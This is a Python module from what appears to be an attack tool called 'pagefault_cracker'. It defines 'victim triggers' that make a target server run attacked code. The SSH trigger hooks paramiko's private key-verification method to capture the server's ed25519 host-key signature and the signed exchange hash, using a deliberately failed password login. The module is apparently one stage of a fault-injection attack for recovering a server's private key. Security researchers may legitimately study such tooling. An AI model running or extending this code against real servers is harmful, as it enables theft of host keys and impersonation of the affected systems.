"""Victim triggers: make the victim run the attacked code once.

The set of transports is closed. ``trigger_from_uri`` picks one by URI scheme
at configuration time.
"""

from __future__ import annotations

import json
import logging
import socket
from dataclasses import dataclass
from urllib.parse import urlparse

import httpx
import paramiko

from pagefault_cracker.utils.errors import TriggerError
from pagefault_cracker.utils.types import SignatureTranscript

logger = logging.getLogger(__name__)

SSH_HOST_KEY_TYPE = "ssh-ed25519"
SSH_DEFAULT_PORT = 22
WRONG_PASSWORD = "i will not pass"


@dataclass(frozen=True)
class HttpTrigger:
    """GET the URL and wait for the full body."""

    url: str
    timeout: float | None = None

    def execute(self) -> bytes:
        try:
            response = httpx.get(self.url, timeout=self.timeout)
        except httpx.HTTPError as exc:
            raise TriggerError(f"HTTP request to {self.url} failed: {exc}") from exc
        return response.content


class _RecordingTransport(paramiko.Transport):
    """Transport that keeps the host key signature of the key exchange.

    Hooks the private ``Transport._verify_key(host_key, sig)``, which runs
    after the exchange hash is stored in ``self.H``. Checked against paramiko
    2.7 through 3.x.
    """

    def __init__(self, sock) -> None:
        super().__init__(sock)
        self.signature_type: str | None = None
        self.signature_blob: bytes | None = None
        self.signed_message: bytes | None = None
        self.host_public_key: bytes | None = None

    def _verify_key(self, host_key, sig):
        sig_msg = paramiko.Message(sig)
        self.signature_type = sig_msg.get_text()
        self.signature_blob = sig_msg.get_binary()
        key_msg = paramiko.Message(host_key)
        key_msg.get_text()
        self.host_public_key = key_msg.get_binary()
        self.signed_message = bytes(self.H)
        return super()._verify_key(host_key, sig)


@dataclass(frozen=True)
class SshTrigger:
    """Open an SSH session and fail a password login.

    The server signs the key exchange hash with its ed25519 host key before
    authentication, so the signature is available even though the login
    fails. Returns the JSON-encoded SignatureTranscript.
    """

    user: str
    host: str
    port: int = SSH_DEFAULT_PORT
    timeout: float = 30.0

    def execute(self) -> bytes:
        try:
            sock = socket.create_connection((self.host, self.port), timeout=self.timeout)
        except OSError as exc:
            raise TriggerError(f"cannot connect to {self.host}:{self.port}: {exc}") from exc

        transport = _RecordingTransport(sock)
        try:
            transport.get_security_options().key_types = [SSH_HOST_KEY_TYPE]
            transport.start_client(timeout=self.timeout)
            try:
                transport.auth_password(self.user, WRONG_PASSWORD)
            except paramiko.AuthenticationException:
                logger.debug("ssh authentication rejected as expected")
        except (paramiko.SSHException, OSError) as exc:
            raise TriggerError(f"ssh handshake with {self.host}:{self.port} failed: {exc}") from exc
        finally:
            transport.close()

        if transport.signature_blob is None:
            raise TriggerError("ssh server did not send a host key signature")
        if transport.signature_type != SSH_HOST_KEY_TYPE:
            raise TriggerError(f"ssh server signed with {transport.signature_type}, expected ed25519")

        transcript = SignatureTranscript(
            signature_type=transport.signature_type,
            signature=transport.signature_blob,
            message=transport.signed_message,
            public_key=transport.host_public_key,
        )
        return json.dumps(transcript.to_dict()).encode("utf-8")


def parse_transcript(payload: bytes) -> SignatureTranscript:
    """Decode the payload returned by SshTrigger.execute."""
    try:
        return SignatureTranscript.from_dict(json.loads(payload))
    except (ValueError, KeyError, TypeError) as exc:
        raise TriggerError(f"payload is not a signature transcript: {exc}") from exc


def trigger_from_uri(uri: str) -> HttpTrigger | SshTrigger:
    """Select the trigger for ``http://``, ``https://`` or ``ssh://user@host:port``."""
    parsed = urlparse(uri)
    if parsed.scheme in ("http", "https"):
        return HttpTrigger(uri)
    if parsed.scheme == "ssh":
        if not parsed.hostname:
            raise ValueError(f"ssh trigger URI needs a host: {uri!r}")
        return SshTrigger(
            user=parsed.username or "",
            host=parsed.hostname,
            port=parsed.port or SSH_DEFAULT_PORT,
        )
    raise ValueError(f"unsupported trigger protocol {parsed.scheme!r}")
